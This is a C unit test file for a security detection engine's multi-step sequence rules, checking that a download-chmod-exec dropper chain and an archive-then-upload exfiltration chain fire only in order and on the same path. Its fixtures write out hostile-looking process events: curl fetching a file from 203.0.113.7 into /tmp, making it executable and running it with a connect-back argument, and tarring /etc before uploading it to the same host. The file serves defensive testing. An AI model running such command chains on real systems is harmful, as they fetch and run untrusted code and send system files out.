/* test_enrich_incident_seq.c - multi-step rules: the built-ins parse, the
 * download-chmod-exec chain fires only on the same path and in order, the
 * rules parser leaves sequence lines to sequence.c, and bad lines are
 * refused with a reason. */
#include <check.h>
#include <string.h>

#include "check_main.h"
#include "../../enrich/sequence.h"

static facts exec_facts(const char *binary, const char *args)
{
    facts fx;
    facts_clear(&fx);
    fx.f[F_KIND] = "process_exec";
    fx.f[F_BINARY] = binary;
    fx.f[F_ARGS] = args;
    fx.f[F_IN_CONTAINER] = "yes";
    return fx;
}

static int feed(seqset *ss, seqstate *st, const char *binary, const char *args)
{
    facts fx = exec_facts(binary, args);
    int fired[4];
    return seq_feed(ss, &fx, st, fired, 4);
}

static void load(seqset *ss)
{
    char err[256] = "";
    memset(ss, 0, sizeof *ss);
    ck_assert_msg(seq_load_builtin(ss, err, sizeof err) == 0, "%s", err);
    ck_assert_int_eq(seq_prepare(ss, err, sizeof err), 0);
}

START_TEST(builtins_parse)
{
    seqset ss;
    load(&ss);
    ck_assert_uint_eq(ss.n, 4);
    ck_assert_str_eq(ss.v[0].name, "download-chmod-exec");
    ck_assert_int_eq(ss.v[0].nsteps, 3);
    ck_assert_ptr_nonnull(ss.v[0].head);
    ck_assert_int_eq(ss.v[0].head->severity, SEV_CRITICAL);
    ck_assert_str_eq(ss.v[0].head->tech.id, "T1204.002");
    seq_free(&ss);
}
END_TEST

START_TEST(dropper_needs_same_path_in_order)
{
    seqset ss;
    load(&ss);
    seqstate st[8];
    memset(st, 0, sizeof st);
    ck_assert_int_eq(feed(&ss, st, "/tmp/.x", ""), 0); /* exec before download: nothing */
    ck_assert_int_eq(feed(&ss, st, "/usr/bin/curl", "-fsSL -o /tmp/.x http://203.0.113.7/x"), 0);
    ck_assert_int_eq(feed(&ss, st, "/bin/chmod", "+x /tmp/.y"), 0); /* another file */
    ck_assert_int_eq(st[0].step, 1);
    ck_assert_int_eq(feed(&ss, st, "/bin/chmod", "+x /tmp/.x"), 0);
    ck_assert_int_eq(st[0].step, 2);
    ck_assert_int_eq(feed(&ss, st, "/tmp/.y", ""), 0); /* not the file made executable */
    ck_assert_int_eq(feed(&ss, st, "/tmp/.x", "-c 203.0.113.7:4444"), 1);
    ck_assert_int_eq(st[0].fired, 1);
    ck_assert_int_eq(feed(&ss, st, "/tmp/.x", ""), 0); /* fires once per incident */
    seq_free(&ss);
}
END_TEST

START_TEST(discovery_archive_exfil)
{
    seqset ss;
    load(&ss);
    seqstate st[8];
    memset(st, 0, sizeof st);
    ck_assert_int_eq(feed(&ss, st, "/bin/tar", "czf /tmp/a.tgz /data"),
                     0); /* archive alone: a backup */
    ck_assert_int_eq(feed(&ss, st, "/usr/bin/curl", "-T /tmp/a.tgz https://backup.example"), 0);
    ck_assert_int_eq(st[3].step, 0);
    ck_assert_int_eq(feed(&ss, st, "/usr/bin/id", ""), 0);
    ck_assert_int_eq(feed(&ss, st, "/bin/tar", "czf /tmp/loot.tgz /etc"), 0);
    ck_assert_int_eq(feed(&ss, st, "/usr/bin/curl", "-T /tmp/loot.tgz http://203.0.113.7/"), 1);
    seq_free(&ss);
}
END_TEST

START_TEST(rules_parser_skips_sequences)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_int_eq(
        rules_add_line(&rs, "  sequence=x severity=high kind=process_exec then kind=process_exit",
                       "t:1", err, sizeof err),
        0);
    ck_assert_uint_eq(rs.n, 0);
    rules_free(&rs);
}
END_TEST

START_TEST(bad_lines_refused)
{
    seqset ss;
    char err[256];
    memset(&ss, 0, sizeof ss);
    ck_assert_int_eq(
        seq_add_line(&ss, "sequence=one severity=high kind=process_exec", "t:1", err, sizeof err),
        -1);
    ck_assert_ptr_nonnull(strstr(err, "one step"));
    ck_assert_int_eq(
        seq_add_line(
            &ss, "sequence=s severity=high kind=process_exec same_path=yes then kind=process_exit",
            "t:2", err, sizeof err),
        -1);
    ck_assert_ptr_nonnull(strstr(err, "first step"));
    ck_assert_int_eq(seq_add_line(&ss, "sequence=s severity=high kind=process_exec then bogus=1",
                                  "t:3", err, sizeof err),
                     -1);
    ck_assert_ptr_nonnull(strstr(err, "bogus"));
    ck_assert_int_eq(seq_add_line(&ss, "sequence=s kind=process_exec then kind=process_exit", "t:4",
                                  err, sizeof err),
                     -1); /* no severity */
    ck_assert_int_eq(
        seq_add_line(&ss, "sequence=ok severity=high binary~=/a$ then binary~=/b$ or binary~=/c$",
                     "t:5", err, sizeof err),
        0);
    ck_assert_uint_eq(ss.n, 1);
    ck_assert_int_eq(ss.v[0].nsteps, 2);
    ck_assert_int_eq(seq_prepare(&ss, err, sizeof err), 0);
    seqstate st[1];
    memset(st, 0, sizeof st);
    ck_assert_int_eq(feed(&ss, st, "/x/a", ""), 0);
    ck_assert_int_eq(feed(&ss, st, "/x/c", ""), 1); /* the "or" way of step 2 */
    seq_free(&ss);
}
END_TEST

START_TEST(disable_turns_a_builtin_off)
{
    seqset ss;
    char err[256];
    memset(&ss, 0, sizeof ss);
    ck_assert_int_eq(seq_add_line(&ss, "disable=download-chmod-exec", "t:1", err, sizeof err), 0);
    ck_assert_int_eq(seq_load_builtin(&ss, err, sizeof err), 0);
    ck_assert_int_eq(seq_prepare(&ss, err, sizeof err), 0);
    seqstate st[8];
    memset(st, 0, sizeof st);
    ck_assert_int_eq(feed(&ss, st, "/usr/bin/curl", "-o /tmp/.x http://203.0.113.7/x"), 0);
    ck_assert_int_eq(feed(&ss, st, "/bin/chmod", "+x /tmp/.x"), 0);
    ck_assert_int_eq(feed(&ss, st, "/tmp/.x", ""), 0);
    ck_assert_int_eq(st[0].step, 0);
    seq_free(&ss);
}
END_TEST

static void add_tests(TCase *tc)
{
    tcase_add_test(tc, disable_turns_a_builtin_off);
    tcase_add_test(tc, builtins_parse);
    tcase_add_test(tc, dropper_needs_same_path_in_order);
    tcase_add_test(tc, discovery_archive_exfil);
    tcase_add_test(tc, rules_parser_skips_sequences);
    tcase_add_test(tc, bad_lines_refused);
}

int main(void)
{
    return check_main("enrich_incident_seq", add_tests);
}
